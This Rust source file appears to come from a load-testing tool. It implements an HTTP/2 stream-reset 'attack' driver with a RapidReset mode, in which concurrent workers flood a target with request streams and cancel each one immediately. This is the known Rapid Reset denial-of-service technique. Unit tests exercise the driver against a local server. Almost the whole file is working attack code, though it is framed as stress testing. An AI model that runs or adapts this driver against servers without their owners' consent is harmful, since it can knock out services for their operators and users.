//! Stream-reset load over HTTP/2.
//!
//! Each worker opens a dedicated connection, issues a batch of minimal
//! requests as concurrent streams, cancels every stream, closes the
//! connection and pauses before the next round. This stresses the server's
//! stream bookkeeping rather than its application logic, and runs outside
//! the circuit breaker and failover dispatcher.

use crate::engine::stats::RunStats;
use crate::types::{AttackMode, LoadConfig, Target};
use bytes::Bytes;
use futures_util::StreamExt;
use futures_util::stream::FuturesUnordered;
use h2::Reason;
use h2::client::SendRequest;
use rustls::pki_types::ServerName;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::net::TcpStream;
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::{Instant, sleep, sleep_until, timeout};
use tokio_rustls::TlsConnector;
use tokio_util::sync::CancellationToken;

struct Shared {
    target: Target,
    mode: AttackMode,
    deadline: Instant,
    batch: u32,
    pause: Duration,
    timeout: Duration,
    connect_timeout: Duration,
    tls: Option<TlsConnector>,
    stats: Arc<RunStats>,
    cancel_token: CancellationToken,
}

pub struct AttackDriver {
    concurrency: u32,
    shared: Arc<Shared>,
}

impl AttackDriver {
    pub fn new(
        target: Target,
        config: &LoadConfig,
        deadline: Instant,
        stats: Arc<RunStats>,
        cancel_token: CancellationToken,
    ) -> Result<Self, String> {
        let tls = if target.is_tls() {
            let config = crate::tls::client_config(&[b"h2"], config.insecure)?;
            Some(TlsConnector::from(Arc::new(config)))
        } else {
            None
        };

        Ok(Self {
            concurrency: config.concurrency.max(1),
            shared: Arc::new(Shared {
                target,
                mode: config.attack,
                deadline,
                batch: config.attack_batch.max(1),
                pause: config.attack_pause,
                timeout: config.timeout,
                connect_timeout: config.connect_timeout,
                tls,
                stats,
                cancel_token,
            }),
        })
    }

    pub async fn run(self) {
        tracing::info!(
            mode = self.shared.mode.as_str(),
            workers = self.concurrency,
            batch = self.shared.batch,
            "Starting stream-reset load"
        );

        let mut workers = JoinSet::new();
        for id in 0..self.concurrency {
            let shared = self.shared.clone();
            workers.spawn(async move { AttackWorker { id, shared }.run().await });
        }

        let cancel_token = self.shared.cancel_token.clone();
        tokio::select! {
            _ = sleep_until(self.shared.deadline) => {
                tracing::info!("Duration elapsed, stopping stream workers");
            }
            _ = cancel_token.cancelled() => {
                tracing::info!("Cancellation requested");
            }
            _ = async { while workers.join_next().await.is_some() {} } => {}
        }
        cancel_token.cancel();

        let drain = self.shared.timeout + Duration::from_secs(1);
        if timeout(drain, async { while workers.join_next().await.is_some() {} })
            .await
            .is_err()
        {
            workers.shutdown().await;
        }
    }
}

struct AttackWorker {
    id: u32,
    shared: Arc<Shared>,
}

impl AttackWorker {
    async fn run(self) {
        tracing::debug!("Stream worker {} started", self.id);
        let stats = &self.shared.stats;

        while !self.should_stop() {
            match self.connect().await {
                Ok((client, driver)) => {
                    stats.record_attack_connection();
                    if let Err(e) = self.flood(client).await {
                        tracing::debug!("Stream worker {} connection ended: {}", self.id, e);
                    }
                    self.close(driver).await;
                }
                Err(e) => {
                    stats.record_attack_connection_error();
                    tracing::debug!("Stream worker {} failed to connect: {}", self.id, e);
                }
            }

            self.pause(self.shared.pause).await;
        }

        tracing::debug!("Stream worker {} stopped", self.id);
    }

    fn should_stop(&self) -> bool {
        self.shared.cancel_token.is_cancelled() || Instant::now() >= self.shared.deadline
    }

    async fn pause(&self, duration: Duration) {
        tokio::select! {
            _ = sleep(duration) => {}
            _ = sleep_until(self.shared.deadline) => {}
            _ = self.shared.cancel_token.cancelled() => {}
        }
    }

    async fn connect(&self) -> Result<(SendRequest<Bytes>, JoinHandle<()>), String> {
        let target = &self.shared.target;
        let tcp = timeout(
            self.shared.connect_timeout,
            TcpStream::connect((target.bare_host(), target.port)),
        )
        .await
        .map_err(|_| "connect timed out".to_string())?
        .map_err(|e| format!("connect failed: {}", e))?;
        tcp.set_nodelay(true).ok();

        match &self.shared.tls {
            Some(connector) => {
                let server_name = ServerName::try_from(target.bare_host().to_string())
                    .map_err(|e| format!("invalid server name: {}", e))?;
                let tls = timeout(self.shared.connect_timeout, connector.connect(server_name, tcp))
                    .await
                    .map_err(|_| "TLS handshake timed out".to_string())?
                    .map_err(|e| format!("TLS handshake failed: {}", e))?;
                if tls.get_ref().1.alpn_protocol() != Some(b"h2".as_slice()) {
                    return Err("server did not negotiate h2 via ALPN".to_string());
                }
                handshake(tls, self.shared.connect_timeout).await
            }
            None => handshake(tcp, self.shared.connect_timeout).await,
        }
    }

    async fn flood(&self, mut client: SendRequest<Bytes>) -> Result<(), String> {
        let shared = &self.shared;
        let reset_immediately = shared.mode == AttackMode::RapidReset;
        let wait = if reset_immediately {
            shared.pause
        } else {
            shared.timeout
        };
        let mut pending = FuturesUnordered::new();

        for _ in 0..shared.batch {
            if self.should_stop() {
                break;
            }

            client = timeout(shared.timeout, client.ready())
                .await
                .map_err(|_| "no stream capacity".to_string())?
                .map_err(|e| e.to_string())?;

            let request = http::Request::builder()
                .method(http::Method::GET)
                .uri(shared.target.base_url.as_str())
                .body(())
                .map_err(|e| e.to_string())?;

            let (response, mut stream) = match client.send_request(request, true) {
                Ok(pair) => pair,
                Err(e) => {
                    shared.stats.record_stream_error();
                    if e.is_go_away() || e.is_io() {
                        return Err(e.to_string());
                    }
                    continue;
                }
            };
            shared.stats.record_stream_sent();

            if reset_immediately {
                stream.send_reset(Reason::CANCEL);
            }

            let stats = shared.stats.clone();
            pending.push(async move {
                match timeout(wait, response).await {
                    Ok(Ok(resp)) => stats.record_stream_received(resp.status().as_u16()),
                    Ok(Err(e)) if is_local_cancel(&e) => {}
                    Ok(Err(_)) => stats.record_stream_error(),
                    Err(_) if !reset_immediately => stats.record_stream_error(),
                    Err(_) => {}
                }
                if !reset_immediately {
                    stream.send_reset(Reason::CANCEL);
                }
            });
        }

        drop(client);
        while pending.next().await.is_some() {}
        Ok(())
    }

    /// Give the connection driver a moment to flush resets and GOAWAY, then drop it
    async fn close(&self, mut driver: JoinHandle<()>) {
        if timeout(self.shared.pause.max(Duration::from_millis(50)), &mut driver)
            .await
            .is_err()
        {
            driver.abort();
        }
    }
}

fn is_local_cancel(e: &h2::Error) -> bool {
    e.reason() == Some(Reason::CANCEL) && !e.is_remote()
}

async fn handshake<T>(io: T, limit: Duration) -> Result<(SendRequest<Bytes>, JoinHandle<()>), String>
where
    T: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let (client, connection) = timeout(limit, h2::client::handshake(io))
        .await
        .map_err(|_| "h2 handshake timed out".to_string())?
        .map_err(|e| format!("h2 handshake failed: {}", e))?;

    let driver = tokio::spawn(async move {
        if let Err(e) = connection.await {
            tracing::debug!("H2 connection driver error: {}", e);
        }
    });

    Ok((client, driver))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::SocketAddr;
    use tokio::net::TcpListener;

    /// Minimal cleartext HTTP/2 server answering 200 to every stream
    async fn spawn_h2_server() -> SocketAddr {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                tokio::spawn(async move {
                    let Ok(mut conn) = h2::server::handshake(socket).await else {
                        return;
                    };
                    while let Some(Ok((_request, mut respond))) = conn.accept().await {
                        let response = http::Response::builder().status(200).body(()).unwrap();
                        let _ = respond.send_response(response, true);
                    }
                });
            }
        });
        addr
    }

    fn config(mode: AttackMode) -> LoadConfig {
        LoadConfig {
            concurrency: 1,
            attack: mode,
            attack_batch: 5,
            attack_pause: Duration::from_millis(50),
            timeout: Duration::from_secs(2),
            connect_timeout: Duration::from_secs(1),
            ..LoadConfig::default()
        }
    }

    async fn run_driver(url: &str, mode: AttackMode, duration: Duration) -> Arc<RunStats> {
        let stats = Arc::new(RunStats::new());
        let driver = AttackDriver::new(
            Target::parse(url).unwrap(),
            &config(mode),
            Instant::now() + duration,
            stats.clone(),
            CancellationToken::new(),
        )
        .unwrap();
        driver.run().await;
        stats
    }

    #[tokio::test]
    async fn test_reset_on_response_counts_received_streams() {
        let addr = spawn_h2_server().await;
        let stats = run_driver(
            &format!("http://{}/", addr),
            AttackMode::ResetOnResponse,
            Duration::from_millis(400),
        )
        .await;

        assert!(stats.attack_connections() >= 1);
        assert_eq!(stats.attack_connection_errors(), 0);
        assert!(stats.attack_streams_sent() >= 5);
        assert!(stats.attack_streams_received() >= 5);
        assert!(stats.attack_status_codes().get(&200).is_some());
        // Stream load never touches the request counters
        assert_eq!(stats.total_requests(), 0);
    }

    #[tokio::test]
    async fn test_rapid_reset_sends_streams() {
        let addr = spawn_h2_server().await;
        let stats = run_driver(
            &format!("http://{}/", addr),
            AttackMode::RapidReset,
            Duration::from_millis(400),
        )
        .await;

        assert!(stats.attack_connections() >= 1);
        assert!(stats.attack_streams_sent() >= 5);
        assert!(stats.attack_streams_received() <= stats.attack_streams_sent());
    }

    #[tokio::test]
    async fn test_unreachable_target_counts_connection_errors() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        drop(listener);

        let stats = run_driver(
            &format!("http://127.0.0.1:{}/", port),
            AttackMode::RapidReset,
            Duration::from_millis(300),
        )
        .await;

        assert!(stats.attack_connection_errors() >= 1);
        assert_eq!(stats.attack_connections(), 0);
        assert_eq!(stats.attack_streams_sent(), 0);
    }

    #[tokio::test]
    async fn test_cancellation_stops_workers() {
        let addr = spawn_h2_server().await;
        let stats = Arc::new(RunStats::new());
        let token = CancellationToken::new();
        let driver = AttackDriver::new(
            Target::parse(&format!("http://{}/", addr)).unwrap(),
            &config(AttackMode::RapidReset),
            Instant::now() + Duration::from_secs(60),
            stats.clone(),
            token.clone(),
        )
        .unwrap();

        let canceller = token.clone();
        tokio::spawn(async move {
            sleep(Duration::from_millis(200)).await;
            canceller.cancel();
        });

        let started = Instant::now();
        driver.run().await;
        assert!(started.elapsed() < Duration::from_secs(5));
        let sent = stats.attack_streams_sent();
        sleep(Duration::from_millis(200)).await;
        assert_eq!(stats.attack_streams_sent(), sent);
    }
}
